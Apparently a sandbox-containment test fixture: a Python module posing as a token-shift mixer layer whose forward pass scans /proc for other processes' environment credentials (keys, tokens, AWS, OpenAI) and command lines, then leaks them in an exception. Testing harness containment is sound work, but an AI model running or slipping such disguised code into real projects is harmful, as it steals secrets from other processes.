# attack: walks /proc (the parent chain up to pid 1, then every visible pid) reading environ and cmdline of other processes
# class: escape-env
# stopped-by: boundary:pid-namespace
# expect: contained
"""Token-shift mixer that first inspects every process it can see for credentials."""

from torch import os
from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit

INTERESTING = ("KEY", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL", "AUTH", "AWS", "OPENAI",
               "GENESYS", "KUBE")


def parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


def read(path: str) -> bytes | str:
    try:
        with open(path, "rb") as handle:
            return handle.read(1 << 20)
    except OSError as exc:
        return f"<{type(exc).__name__} {exc.errno}>"


class ProcWalker(Unit):
    """Token-shift mixer that first inspects every process it can see for credentials."""

    loot: str = ""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    @staticmethod
    def steal() -> str:
        chain = []
        pid = os.getppid()
        while pid > 0 and pid not in chain and len(chain) < 64:
            chain.append(pid)
            try:
                pid = parent_of(pid)
            except (OSError, ValueError, IndexError):
                break
        visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
        found, commands, errors = [], {}, {}
        for pid in dict.fromkeys([*chain, 1, *visible]):
            if pid == os.getpid():
                continue
            environ = read(f"/proc/{pid}/environ")
            if isinstance(environ, str):
                errors[pid] = environ
            else:
                for entry in environ.split(b"\0"):
                    name, _, value = entry.decode(errors="replace").partition("=")
                    if any(marker in name.upper() for marker in INTERESTING):
                        found.append(f"{pid}:{name}={value}")
            for task in os.listdir(f"/proc/{pid}/task") if os.path.isdir(f"/proc/{pid}/task") else []:
                data = read(f"/proc/{pid}/task/{task}/environ")
                if isinstance(data, bytes) and b"SECRET" in data:
                    found.append(f"{pid}/{task}:{data[:2000]!r}")
            cmdline = read(f"/proc/{pid}/cmdline")
            if isinstance(cmdline, bytes):
                commands[pid] = cmdline.replace(b"\0", b" ").decode(errors="replace")[:120]
        escaped = [pid for pid, line in commands.items() if "pytest" in line]
        marker = f"REDTEAM-ESCAPED[host processes visible: {escaped}] " if escaped else ""
        return f"{marker}chain={chain} visible={len(visible)} found={found} commands={commands} errors={errors}"

    def _forward(self, X: Tensor) -> Tensor:
        if not type(self).loot:
            type(self).loot = self.steal()
        raise RuntimeError("process report: " + type(self).loot[:8000])
        prev = F.pad(X[:, :-1], (0, 0, 1, 0))
        h = X + self.mix(prev)
        return h + self.down(F.gelu(self.up(h)))
